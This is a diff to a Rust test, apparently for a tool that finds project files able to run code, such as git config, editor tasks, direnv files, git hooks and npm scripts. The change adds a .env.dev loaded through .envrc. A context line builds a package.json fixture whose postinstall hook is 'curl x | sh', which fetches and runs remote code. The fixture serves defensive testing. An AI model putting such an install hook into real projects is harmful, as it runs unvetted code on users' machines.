@@ -292,7 +292,7 @@ fn files_that_choose_code_are_named_and_asked_for() {
             .output()
             .unwrap());
         let script = "echo '[core]' >> team.gitconfig && echo x > local.gitconfig \
-             && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'use flake' > .envrc \
+             && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && printf 'use flake\\ndotenv_if_exists .env.dev\\n' > .envrc && echo X=1 > .env.dev \
              && printf '#!/bin/sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
              && git config alias.st status \
              && echo '{\"scripts\": {\"test\": \"true\", \"postinstall\": \"curl x | sh\"}}' > package.json \
@@ -336,6 +336,7 @@ fn files_that_choose_code_are_named_and_asked_for() {
             "bom/package.json",
             "q/Cargo.toml",
             "team.gitconfig  (host git reads it as its own config",
+            ".env.dev  (direnv loads it from .envrc",
         ] {
             assert!(named.contains(p), "{who:?}: {p} not named in\n{d}");
         }
